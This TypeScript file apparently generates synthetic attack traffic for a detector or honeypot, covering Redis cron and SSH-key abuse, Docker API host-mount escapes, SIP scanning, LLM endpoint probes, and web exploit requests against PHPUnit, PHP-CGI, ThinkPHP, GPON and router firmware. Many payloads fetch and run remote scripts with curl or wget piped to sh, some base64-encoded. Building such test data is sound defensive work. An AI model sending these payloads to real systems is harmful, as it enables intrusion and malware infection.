import type { Body } from '../../src/model/event.ts';
import { command, type Dice, fast, type Made, request } from './variant.ts';

const redis = (label: string, lines: string[]): Made => ({
  label,
  protocol: 'redis',
  port: 6379,
  bodies: lines.map(command),
  gaps: fast,
});
const cased = (dice: Dice, line: string) =>
  dice.chance(0.3) ? line.replace(/^(\S+ \S+)/, (head) => head.toUpperCase()) : dice.loosely(line);

export function redisCron(dice: Dice): Made {
  const get = dice.pick(['curl -fsSL', 'wget -q -O-', 'cd1 -fsSL', 'wd1 -q -O-']);
  const value = String.raw`"\n\n\n*/${dice.int(1, 9)} * * * * ${dice.chance(0.5) ? 'root ' : ''}${get} http://${dice.ip()}/${dice.word()}.sh | ${dice.pick(['sh', 'bash'])}\n\n"`;
  const [folder, file] = dice.pick([
    ['/var/spool/cron/', 'root'],
    ['/var/spool/cron/crontabs', 'root'],
    ['/etc/cron.d/', dice.word()],
    ['/etc/', 'crontab'],
    ['/var/spool/cron', dice.word()],
  ]);
  const lines = [
    ...(dice.chance(0.7) ? ['INFO'] : []),
    ...(dice.chance(0.6) ? [`config set dbfilename "backup.db"`, 'save'] : []),
    ...(dice.chance(0.5) ? ['config set stop-writes-on-bgsave-error no', 'flushall'] : []),
    ...Array.from(
      { length: dice.int(1, 4) },
      (_, n) => `set ${dice.pick(['backup', dice.word()])}${n + 1} ${value}`,
    ),
    `config set dir ${folder}`,
    `config set dbfilename "${file}"`,
    dice.pick(['save', 'bgsave']),
  ];
  return redis(
    'R1',
    lines.map((line) => cased(dice, line)),
  );
}

export function redisKey(dice: Dice): Made {
  const lines = [
    ...(dice.chance(0.5) ? ['flushall'] : []),
    `set ${dice.word()} "\\n\\nssh-${dice.pick(['rsa AAAAB3NzaC1yc2E', 'ed25519 AAAAC3NzaC1lZDI1'])}${dice.word(60, 90)} ${dice.word()}\\n\\n"`,
    `config set dir ${dice.pick(['/root/.ssh/', '/root/.ssh', '/home/redis/.ssh', '/var/lib/redis/.ssh'])}`,
    'config set dbfilename authorized_keys',
    'save',
  ];
  return redis(
    'R2',
    lines.map((line) => cased(dice, line)),
  );
}

export function redisModule(dice: Dice): Made {
  const file = `${dice.word()}.so`;
  const lines = [
    ...(dice.chance(0.5) ? [`config set dbfilename ${file}`] : []),
    `${dice.pick(['SLAVEOF', 'slaveof', 'REPLICAOF'])} ${dice.ip()} ${dice.int(1_024, 65_000)}`,
    `MODULE LOAD ./${file}`,
    'SLAVEOF NO ONE',
    ...(dice.chance(0.7) ? [`system.exec "${dice.pick(['id', `curl http://${dice.ip()}/a.sh|sh`])}"`] : []),
  ];
  return redis('R3', lines);
}

export function docker(dice: Dice): Made {
  const run = dice.pick([
    `echo ${Buffer.from(`wget -qO- http://${dice.ip()}/${dice.word()}.sh | sh`).toString('base64')}|base64 -d|sh`,
    `chroot /mnt sh -c 'curl -s http://${dice.ip()}/x.sh | bash'`,
    `apk add curl; curl http://${dice.ip()}/docker-init.sh | sh`,
  ]);
  const mount = dice.pick(['/hostroot', '/mnt', '/host', '/tmp/x']);
  const body = JSON.stringify({
    Image: dice.pick(['alpine', 'ubuntu', 'busybox:latest']),
    Cmd: [dice.pick(['sh', '/bin/sh', 'bash']), '-c', run],
    HostConfig: { Binds: [`/:${mount}`], ...(dice.chance(0.5) ? { Privileged: true } : {}) },
  });
  const head: [string, string][] = [
    ['Host', `${dice.ip()}:2375`],
    ['User-Agent', dice.pick(['Go-http-client/1.1', 'Docker-Client/24.0.5 (linux)', 'curl/7.88.1'])],
  ];
  const version = dice.pick(['/v1.24', '', '/v1.41']);
  const bodies = [
    request('GET', '/_ping', head),
    request('GET', `${version}/version`, head),
    request(
      'POST',
      `${version}/containers/create${dice.pick(['', `?name=${dice.word()}`])}`,
      head,
      dice.chance(0.3) ? body.replaceAll('":', '": ') : body,
    ),
    request('POST', `${version}/containers/${dice.sha256()}/start`, head),
  ];
  return { label: 'D1', protocol: 'docker', port: 2375, bodies: bodies.slice(dice.int(0, 2)), gaps: fast };
}

const agents = [
  'Mozilla/5.0',
  'Custom-AsyncHttpClient',
  'libredtail-http',
  'curl/8.5.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
  'python-requests/2.31.0',
];

/** Exploits of the web: prefixes, queries, percent escapes and what they would run differ. */
export function web(dice: Dice): Made {
  const host = dice.ip();
  const tail = `wget+http://${host}/${dice.word()}+-O+/tmp/${dice.word()};sh+/tmp/${dice.word()}`;
  const shell = `X=$(curl http://${host}/sh || wget http://${host}/sh -O-); echo "$X" | sh -s ${dice.word()}.selfrep`;
  const prefix = dice.pick([
    '',
    '/lib',
    '/laravel',
    '/www',
    '/ws',
    '/yii',
    '/zend',
    '/api',
    `/${dice.word()}`,
    '/tests',
    '/panel',
    '/public',
  ]);
  const secret = dice.word();
  const php = `<?php shell_exec(base64_decode("${Buffer.from(shell).toString('base64')}")); echo(md5("${secret}"));`;
  const climbs = Array.from({ length: dice.int(4, 9) }, () =>
    dice.pick(['.%2e', '%2e%2e', '%%32%65%%32%65']),
  ).join('/');
  const body = dice.pick([
    () =>
      request(
        dice.pick(['GET', 'POST']),
        `${prefix}/${dice.pick(['vendor/', 'lib/', ''])}phpunit/${dice.pick(['phpunit/src/', 'src/', ''])}Util/PHP/eval-stdin.php`,
        [],
        `<?php echo(md5("${secret}"));`,
      ),
    () =>
      request(
        'POST',
        `${dice.pick(['/hello.world', '/index.php', '/php-cgi/php-cgi.exe', '/test.php'])}?%ADd+allow_url_include%3d1+${dice.pick(['%AD', '-'])}d+auto_prepend_file%3dphp://input`,
        [],
        php,
      ),
    () =>
      request(
        'GET',
        `${dice.pick(['', '/public'])}/index.php?s=${dice.pick(['/index/\\think\\app/invokefunction', '/Index/\\think\\app/invokefunction', 'index/think\\app/invokefunction'])}&function=call_user_func_array&vars[0]=${dice.pick(['md5', 'system', 'shell_exec'])}&vars[1][]=${secret}`,
      ),
    () =>
      request(
        'GET',
        `${dice.pick(['/', '/index.php'])}?lang=../../../../../../../../${dice.pick(['usr/local/lib/php/pearcmd', 'tmp/index1', 'usr/share/php/pearcmd']).replace('tmp/index1', 'usr/lib/php/pearcmd')}&+config-create+/&/<?echo(md5("${secret}"));?>+/tmp/${dice.word()}.php`,
      ),
    () => request('POST', `/cgi-bin/${climbs}/bin/${dice.pick(['sh', 'bash'])}`, [], `echo; ${shell}`),
    () =>
      request(
        'POST',
        `/GponForm/diag_Form?${dice.pick(['images/', 'style/', 'images'])}`,
        [],
        `XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`busybox+${tail}\`&ipv=0`,
      ),
    () =>
      request(
        'GET',
        `/shell?cd+/tmp;rm+-rf+*;${dice.pick(['wget', 'curl+-O'])}+http://${host}:${dice.int(1_024, 65_000)}/${dice.pick(['Mozi.a', `${dice.word()}.arm7`, 'jaws.sh'])};chmod+777+${dice.word()};/tmp/${dice.word()}+jaws`,
      ),
    () =>
      request(
        'POST',
        `/ctrlt/DeviceUpgrade_1`,
        [['Authorization', 'Digest username="dslf-config"']],
        `<NewStatusURL>$(/bin/busybox wget -g ${host} -l /tmp/${dice.word()} -r /${dice.word()}; sh /tmp/x)</NewStatusURL>`,
      ),
    () =>
      request('GET', `/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>\`${tail}\`)`),
    () => request('POST', `/boaform/admin/formLogin`, [], `username=${dice.word()}&psd=${dice.word()}`),
    () =>
      request(
        dice.pick(['POST', 'GET', 'HEAD']),
        `/developmentserver/metadatauploader${dice.pick(['', '?CONTENTTYPE=MODEL&CLIENT=1'])}`,
      ),
    () => request(dice.pick(['GET', 'POST']), dice.pick(['/HNAP1/', '/HNAP1'])),
    () => request('GET', `${prefix}${dice.pick(['/.env', '/.env.local', '/.git/config', '/.env.bak'])}`),
    () => request('GET', `/geoserver/web/${dice.pick(['', 'wicket/bookmarkable/x'])}`),
    () => request('GET', `/solr/admin/${dice.pick(['info/system?wt=json', 'cores?wt=json'])}`),
    () => request('GET', `/${dice.pick(['setup', 'search', dice.word()])}.cgi?cmd=${tail}`),
  ])() as Extract<Body, { kind: 'request' }>;
  const headers: [string, string][] = [
    ['Host', `${dice.ip()}:80`],
    ['User-Agent', dice.pick(agents)],
    ...body.headers,
  ];
  const before = dice.chance(0.2) ? [request('GET', '/', headers)] : [];
  return {
    label: 'W1',
    protocol: 'http',
    port: dice.pick([80, 8080, 443]),
    bodies: [...before, { ...body, headers }],
    gaps: fast,
  };
}

export function model(dice: Dice): Made {
  const head: [string, string][] = [
    ['User-Agent', dice.pick(agents)],
    ['Content-Type', 'application/json'],
  ];
  const ask = dice.pick([
    'How many states are there in the United States?',
    'Say hi',
    'What is 2+2?',
    'Write a short story',
  ]);
  const body = dice.pick([
    request('POST', '/api/generate', head, JSON.stringify({ model: 'llama3', prompt: ask })),
    request(
      'POST',
      '/v1/chat/completions',
      head,
      JSON.stringify({ model: 'gpt-4', messages: [{ role: 'user', content: ask }] }),
    ),
    request('POST', '/api/chat', head, JSON.stringify({ model: 'x', messages: [] })),
    request('GET', dice.pick(['/api/tags', '/v1/models', '/api/version']), head),
    request(
      'POST',
      '/mcp',
      head,
      JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: {} }),
    ),
  ]);
  return { label: 'L1', protocol: 'http', port: dice.pick([11434, 8000, 7860]), bodies: [body], gaps: fast };
}

export function sip(dice: Dice): Made {
  const to = dice.ip();
  const scanner = dice.chance(0.5);
  const agent = scanner
    ? dice.pick(['friendly-scanner', 'sipcli/v1.8', 'pplsip', 'Friendly-Scanner'])
    : dice.pick(['Zoiper', 'Asterisk PBX', 'Cisco']);
  const one = (): Body => {
    const method = scanner ? dice.pick(['OPTIONS', 'REGISTER', 'INVITE']) : dice.pick(['INVITE']);
    const number = scanner
      ? dice.int(100, 999)
      : `${dice.pick(['', '9', '00', '011'])}${dice.pick(['0033', '0016'])}${dice.int(10_000_000, 99_999_999)}`;
    return request(method, `sip:${number}@${to}`, [
      ['Via', `SIP/2.0/UDP ${dice.ip()}:5060`],
      ['User-Agent', agent],
    ]);
  };
  const count = dice.chance(0.2) ? dice.int(5, 40) : dice.int(1, 4);
  return { label: 'V1', protocol: 'sip', port: 5060, bodies: Array.from({ length: count }, one), gaps: fast };
}

export const serviceVariants = [redisCron, redisKey, redisModule, docker, web, model, sip];
